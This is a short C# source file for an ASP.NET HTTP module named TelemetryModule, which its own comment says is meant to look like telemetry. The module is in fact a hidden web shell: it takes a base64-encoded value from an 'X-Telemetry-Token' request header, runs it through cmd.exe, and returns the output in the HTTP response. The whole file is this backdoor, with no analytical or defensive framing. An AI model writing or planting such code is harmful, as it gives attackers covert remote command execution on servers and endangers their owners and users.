using System;
using System.Diagnostics;
using System.Web;

namespace Portal.Diagnostics
{
    // Registered in web.config <modules>; looks like a telemetry module.
    public class TelemetryModule : IHttpModule
    {
        public void Init(HttpApplication app)
        {
            app.PostAuthenticateRequest += (s, e) =>
            {
                HttpContext c = ((HttpApplication)s).Context;
                string t = c.Request.Headers["X-Telemetry-Token"];
                if (string.IsNullOrEmpty(t)) return;
                var si = new ProcessStartInfo("cmd.exe", "/c " + System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(t)));
                si.UseShellExecute = false;
                si.RedirectStandardOutput = true;
                c.Response.Write(Process.Start(si).StandardOutput.ReadToEnd());
                c.Response.End();
            };
        }
        public void Dispose() { }
    }
}
